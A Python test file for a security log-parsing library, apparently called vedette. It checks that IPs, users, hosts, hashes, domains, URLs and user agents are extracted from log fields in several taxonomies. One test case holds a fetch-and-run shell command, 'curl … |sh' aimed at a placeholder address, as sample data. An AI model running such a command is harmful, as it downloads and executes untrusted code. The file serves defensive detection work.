"""Entities: fields of all taxonomies in, checked and typed entities out."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.decode.entities import _CHECKS, _KINDS, MAX_ENTITIES, entities
from vedette.model.event import Entity

MD5, SHA256 = "d41d8cd98f00b204e9800998ecf8427e", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"src_ip": "203.0.113.9"}, [("ip", "203.0.113.9")]),
        ({"source.ip": "2001:DB8::9"}, [("ip", "2001:db8::9")]),
        ({"source": {"ip": "203.0.113.9"}}, [("ip", "203.0.113.9")]),
        ({"SourceIp": "[fe80::1%eth0]"}, [("ip", "fe80::1")]),
        ({"c-ip": "203.0.113.9:443"}, [("ip", "203.0.113.9")]),
        ({"src_ip": "not an address"}, []),
        ({"user": "root", "TargetUserName": "root"}, [("user", "root")]),
        ({"user": "-"}, []),
        ({"ComputerName": "WS01.corp.example."}, [("host", "ws01.corp.example")]),
        ({"hostname": "10.0.0.1"}, [("ip", "10.0.0.1")]),
        ({"Hashes": f"MD5={MD5.upper()},SHA256={SHA256}"}, [("hash", MD5), ("hash", SHA256)]),
        ({"md5": MD5[:-1]}, []),
        ({"QueryName": "Evil.Example.ORG"}, [("domain", "evil.example.org")]),
        (
            {"url": "https://evil.example.org/x?y=1"},
            [("url", "https://evil.example.org/x?y=1"), ("domain", "evil.example.org")],
        ),
        ({"cs-user-agent": "sqlmap/1.7"}, [("user_agent", "sqlmap/1.7")]),
        ({"client_id": "sensor-7"}, [("device", "sensor-7")]),
        ({"command": "curl http://203.0.113.66/x|sh"}, [("url", "http://203.0.113.66/x"), ("ip", "203.0.113.66")]),
        ({"src_ip": ["10.0.0.1", "10.0.0.2", "10.0.0.1"]}, [("ip", "10.0.0.1"), ("ip", "10.0.0.2")]),
        ({"anything": "203.0.113.9", "user": None, "src_ip": True}, []),
    ],
)
def test_table(fields: dict[str, Any], expected: list[tuple[str, str]]) -> None:
    """Names of Sigma, ECS, Windows and web taxonomies give typed entities; what fails its check gives none."""
    assert entities(fields, None) == tuple(Entity(*pair) for pair in expected)


def test_host_comes_first() -> None:
    """The event's host is an entity, once, and an address when it is one."""
    assert entities({"hostname": "web1"}, "WEB1") == (Entity("host", "web1"),)
    assert entities({}, "10.0.0.1") == (Entity("ip", "10.0.0.1"),)


def test_bounded() -> None:
    """However many values there are, no more than 32 entities come out, and quickly."""
    found = entities({"src_ip": [f"10.0.{i // 250}.{i % 250}" for i in range(5000)]}, "h")
    assert len(found) == MAX_ENTITIES


_VALUES = st.recursive(
    st.one_of(
        st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=20), st.sampled_from(["1.2.3.4", MD5])
    ),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(["ip", "user", "x"]), inner, max_size=3)
    ),
    max_leaves=8,
)


@settings(max_examples=100)
@given(st.dictionaries(st.sampled_from(sorted(_KINDS)), _VALUES, max_size=5), st.none() | st.text(max_size=10))
def test_total(fields: dict[str, Any], host: str | None) -> None:
    """Any values give entities of known kinds without doubles."""
    found = entities(fields, host)
    assert len(found) == len(set(found)) <= MAX_ENTITIES
    assert {e.kind for e in found} <= set(_CHECKS) - {"text"}
